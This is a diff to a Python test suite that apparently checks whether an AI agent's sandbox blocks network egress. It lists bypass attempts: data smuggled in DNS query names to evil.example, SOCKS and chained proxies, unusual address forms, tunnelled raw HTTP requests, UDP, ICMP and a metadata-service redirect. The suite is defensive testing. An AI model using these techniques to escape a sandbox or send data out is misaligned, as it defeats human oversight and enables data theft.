@@ -1,6 +1,6 @@
 """Attempts to get around a policy, each with a control: the same attempt where it must succeed.
 
-An attempt is a function of inside.py with arguments; in them `@` stands for a word that only this attempt has, and it
+An attempt is a function of inside.py with arguments; in them WORD stands for a word that only this attempt has, and it
 has succeeded when that word came to any server, or came back. Where it is tried: a session of the agent `strict`
 unless it says otherwise. Where the control is tried: in a session of the agent that it names, or `host`: on the host,
 without a sandbox.
@@ -28,7 +28,7 @@ def row(name, function, arguments, control, agents=("strict",)):
 
 
 def get(authority, way="connect", **more):
-    return {"way": way, "authority": authority, "token": "@", **more}
+    return {"way": way, "authority": authority, "token": "WORD", **more}
 
 
 # --- names ---
@@ -80,10 +80,9 @@ for _title, _text in {
         "short": "203.28948", "with zeros": "0203.000.113.020"}.items():
     # What a number in this form means is up to the C library: on the host it goes there, or somewhere else.
     _control = {"authority": f"{EVIL}:80"} if _title == "with zeros" else {}
-    row(f"an address in the form {_title}", "get", get(f"{_text}:80"), ("host", {"way": "itself", **_control}),
-        ("strict", "open-not"))
+    row(f"an address in the form {_title}", "get", get(f"{_text}:80"), ("host", {"way": "itself", **_control}))
     row(f"an address in the form {_title} over SOCKS", "get", get(f"{_text}:80", "socks"),
-        ("host", {"way": "itself", **_control}), ("strict", "open-not"))
+        ("host", {"way": "itself", **_control}))
 for _text in (EVIL, f"[{EVIL6}]", f"[::ffff:{EVIL}]", OTHER, "203.0.113.10"):
     row(f"the public address {_text}", "get", get(f"{_text}:80"), ("free",))
 row("a public address over SOCKS", "get", get(f"{EVIL}:80", "socks"), ("free",))
@@ -102,11 +101,11 @@ for _text in ("0.0.0.0", "[::]", "[::127.0.0.1]", "[fe80::1%25inside]", "[fe80::
               "224.0.0.1", "255.255.255.255", "0", "[::ffff:0:10.9.8.7]"):
     row(f"private: {_text}", "get", get(f"{_text}:80"), ("free", {"authority": "127.0.0.1:80"}), EVERYBODY)
 row("loopback over SOCKS, as IPv4", "get", get("127.0.0.1:80", "socks"), ("free",), EVERYBODY)
-row("loopback over SOCKS, as an IPv4 address", "socks_get", {"authority": "127.0.0.1:80", "kind": 1, "token": "@"},
+row("loopback over SOCKS, as an IPv4 address", "socks_get", {"authority": "127.0.0.1:80", "kind": 1, "token": "WORD"},
     ("free",), EVERYBODY)
-row("loopback over SOCKS, as an IPv6 address", "socks_get", {"authority": "::1:80", "kind": 4, "token": "@"},
+row("loopback over SOCKS, as an IPv6 address", "socks_get", {"authority": "::1:80", "kind": 4, "token": "WORD"},
     ("free",), EVERYBODY)
-row("loopback over SOCKS, mapped", "socks_get", {"authority": "::ffff:127.0.0.1:80", "kind": 4, "token": "@"},
+row("loopback over SOCKS, mapped", "socks_get", {"authority": "::ffff:127.0.0.1:80", "kind": 4, "token": "WORD"},
     ("free",), EVERYBODY)
 
 # --- names that lead to places ---
@@ -119,44 +118,44 @@ for _name in ("zero", "mapped", "many"):
         ("free", {"authority": "private.good.example:80"}), EVERYBODY)
 row("a private name by itself", "get", get("private.good.example:80", "itself"), ("free",), EVERYBODY)
 row("a private name over SOCKS", "get", get("private.good.example:80", "socks"), ("free",), EVERYBODY)
-row("a private name, absolute", "exchange", {"data": "GET http://private.good.example/@ HTTP/1.1\r\nHost: "
+row("a private name, absolute", "exchange", {"data": "GET http://private.good.example/WORD HTTP/1.1\r\nHost: "
     "private.good.example\r\nConnection: close\r\n\r\n"}, ("free",), EVERYBODY)
 
 # --- name queries ---
 
 for _kind, _number in {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33,
                        "AXFR": 252, "ANY": 255}.items():
-    row(f"data in a {_kind} query", "ask", {"name": "@.evil.example", "kind": _number},
+    row(f"data in a {_kind} query", "ask", {"name": "WORD.evil.example", "kind": _number},
         ("host", {"server": RESOLVER}))
-row("data in a query over TCP", "ask", {"name": "@.evil.example", "stream": True},
+row("data in a query over TCP", "ask", {"name": "WORD.evil.example", "stream": True},
     ("host", {"server": RESOLVER, "stream": True}))
-row("data in a query below an allowed suffix", "ask", {"name": "@.good.example", "kind": 16},
-    ("strict", "get", {"way": "connect", "authority": "@.good.example:80", "token": "x"}))
-row("data in a name that is connected to", "get", {"way": "connect", "authority": "@.evil.example:80", "token": "x"},
+row("data in a query below an allowed suffix", "ask", {"name": "WORD.good.example", "kind": 16},
+    ("strict", "get", {"way": "connect", "authority": "WORD.good.example:80", "token": "x"}))
+row("data in a name that is connected to", "get", {"way": "connect", "authority": "WORD.evil.example:80", "token": "x"},
     ("free",))
-row("data in a name over SOCKS", "get", {"way": "socks", "authority": "@.evil.example:80", "token": "x"}, ("free",))
+row("data in a name over SOCKS", "get", {"way": "socks", "authority": "WORD.evil.example:80", "token": "x"}, ("free",))
 row("data in the name of an absolute request", "exchange",
-    {"data": "GET http://@.evil.example/ HTTP/1.1\r\nHost: @.evil.example\r\nConnection: close\r\n\r\n"}, ("free",))
+    {"data": "GET http://WORD.evil.example/ HTTP/1.1\r\nHost: WORD.evil.example\r\nConnection: close\r\n\r\n"}, ("free",))
 row("data in the name of a TLS hello", "tls",
-    {"way": "itself", "authority": "198.18.77.77:443", "name": "@.evil.example", "token": "x"},
-    ("host", "ask", {"name": "@.evil.example", "server": RESOLVER}))
-row("a query to the real name server", "ask", {"name": "@.evil.example", "server": RESOLVER}, ("host",))
-row("a query to the real name server over TCP", "ask", {"name": "@.evil.example", "server": RESOLVER, "stream": True},
+    {"way": "itself", "authority": "198.18.77.77:443", "name": "WORD.evil.example", "token": "x"},
+    ("host", "ask", {"name": "WORD.evil.example", "server": RESOLVER}))
+row("a query to the real name server", "ask", {"name": "WORD.evil.example", "server": RESOLVER}, ("host",))
+row("a query to the real name server over TCP", "ask", {"name": "WORD.evil.example", "server": RESOLVER, "stream": True},
     ("host",))
 row("the name server through the proxy", "ask_through", {"way": "connect", "authority": f"{RESOLVER}:53",
-    "name": "@.evil.example"}, ("free",), ("strict", "open"))
+    "name": "WORD.evil.example"}, ("free",), ("strict", "open"))
 
 # --- other than TCP ---
 
-row("UDP", "datagram", {"address": EVIL, "port": 7, "token": "@"}, ("host",), ("strict", "open"))
-row("UDP over IPv6", "datagram", {"address": EVIL6, "port": 7, "token": "@"}, ("host",), ("strict", "open"))
-row("UDP to an address of a name", "datagram_name", {"name": "www.example", "port": 7, "token": "@"},
-    ("host", "datagram", {"address": "203.0.113.10", "port": 7, "token": "@"}))
-row("UDP over every interface", "multicast", {"token": "@"}, ("host", "datagram", {"address": EVIL, "port": 7, "token": "@"}))
-row("ICMP", "ping", {"address": EVIL, "token": "@@"}, ("host",), ("strict", "open"))
-row("ICMP without a raw socket", "ping", {"address": EVIL, "token": "@@", "kind": "plain"},
+row("UDP", "datagram", {"address": EVIL, "port": 7, "token": "WORD"}, ("host",), ("strict", "open"))
+row("UDP over IPv6", "datagram", {"address": EVIL6, "port": 7, "token": "WORD"}, ("host",), ("strict", "open"))
+row("UDP to an address of a name", "datagram_name", {"name": "www.example", "port": 7, "token": "WORD"},
+    ("host", "datagram", {"address": "203.0.113.10", "port": 7, "token": "WORD"}))
+row("UDP over every interface", "multicast", {"token": "WORD"}, ("host", "datagram", {"address": EVIL, "port": 7, "token": "WORD"}))
+row("ICMP", "ping", {"address": EVIL, "token": "WORD"}, ("host",), ("strict", "open"))
+row("ICMP without a raw socket", "ping", {"address": EVIL, "token": "WORD", "kind": "plain"},
     ("host", {"kind": "raw"}), ("strict", "open"))
-row("a packet socket", "packet_socket", {"token": "@"}, ("host",))
+row("a packet socket", "packet_socket", {"token": "WORD"}, ("host",))
 
 # --- proxies behind the proxy, and the way out itself ---
 
@@ -164,15 +163,15 @@ row("another proxy", "get", get(f"{EVIL}:3128"), ("free",))
 row("another proxy by its name", "get", get("evil.example:3128"), ("free",))
 row("another SOCKS proxy", "get", get("evil.example:1080", "socks"), ("free",))
 row("the tunnel as a proxy, absolute", "say", {"way": "connect", "authority": "www.example:80",
-    "data": "GET http://forbidden.example/@ HTTP/1.1\r\nHost: forbidden.example\r\nConnection: close\r\n\r\n"},
-    ("strict", {"data": "GET http://www.example/@ HTTP/1.1\r\nHost: www.example\r\nConnection: close\r\n\r\n"}))
+    "data": "GET http://forbidden.example/WORD HTTP/1.1\r\nHost: forbidden.example\r\nConnection: close\r\n\r\n"},
+    ("strict", {"data": "GET http://www.example/WORD HTTP/1.1\r\nHost: www.example\r\nConnection: close\r\n\r\n"}))
 row("the tunnel as a proxy, CONNECT", "say", {"way": "connect", "authority": "www.example:80",
     "data": "CONNECT forbidden.example:80 HTTP/1.1\r\nHost: forbidden.example:80\r\n\r\n"
-            "GET /@ HTTP/1.1\r\nHost: forbidden.example\r\n\r\n"},
-    ("strict", {"data": "GET /@ HTTP/1.1\r\nHost: www.example\r\nConnection: close\r\n\r\n"}))
+            "GET /WORD HTTP/1.1\r\nHost: forbidden.example\r\n\r\n"},
+    ("strict", {"data": "GET /WORD HTTP/1.1\r\nHost: www.example\r\nConnection: close\r\n\r\n"}))
 for _port in (53, 3128):
     for _host in ("127.0.0.1", "www.example", "localhost", "198.18.0.1"):
         row(f"the way out as a destination: {_host}:{_port}", "get", get(f"{_host}:{_port}"), GOOD, ("strict", "open"))
-row("redirect to a name without a rule", "redirected", {"url": "http://www.example/away?@"}, ("open2",))
-row("redirect to the metadata service", "redirected", {"url": "http://www.example/inward?@"}, ("free",),
+row("redirect to a name without a rule", "redirected", {"url": "http://www.example/away?HALF"}, ("open2",))
+row("redirect to the metadata service", "redirected", {"url": "http://www.example/inward?HALF"}, ("free",),
     ("strict", "open"))
